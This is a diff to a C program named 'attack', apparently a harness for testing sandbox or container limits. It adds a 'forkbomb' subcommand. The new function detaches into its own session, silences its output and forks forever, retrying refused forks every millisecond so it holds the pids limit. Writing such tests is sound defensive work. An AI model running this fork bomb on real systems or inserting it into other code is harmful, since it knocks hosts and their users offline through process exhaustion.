@@ -290,6 +290,26 @@ static int do_inotify(int hold)
 	return 0;
 }
 
+/* A fork bomb that outlives its exec and never lets go: the first child leaves
+ * the exec's session, then every process forks forever, retrying a refused fork
+ * (at the pids limit) after 1 ms instead of exiting, so a freed pid is taken
+ * again at once. */
+static int do_forkbomb(void)
+{
+	int fd;
+
+	if (fork() != 0)
+		return 0;
+	setsid();
+	fd = open("/dev/null", O_RDWR);
+	dup2(fd, 0);
+	dup2(fd, 1);
+	dup2(fd, 2);
+	for (;;)
+		if (fork() < 0)
+			usleep(1000);
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 3 && !strcmp(argv[1], "protect"))
@@ -308,6 +328,9 @@ int main(int argc, char **argv)
 		return do_fds();
 	if (argc >= 2 && !strcmp(argv[1], "inotify"))
 		return do_inotify(argc == 3 && !strcmp(argv[2], "hold"));
-	fprintf(stderr, "usage: attack protect PATH | ioctl SRC DST | ctl | host | mem | fds | inotify\n");
+	if (argc == 2 && !strcmp(argv[1], "forkbomb"))
+		return do_forkbomb();
+	fprintf(stderr, "usage: attack protect PATH | ioctl SRC DST | ctl | host | mem | fds | inotify"
+			" | forkbomb\n");
 	return 2;
 }
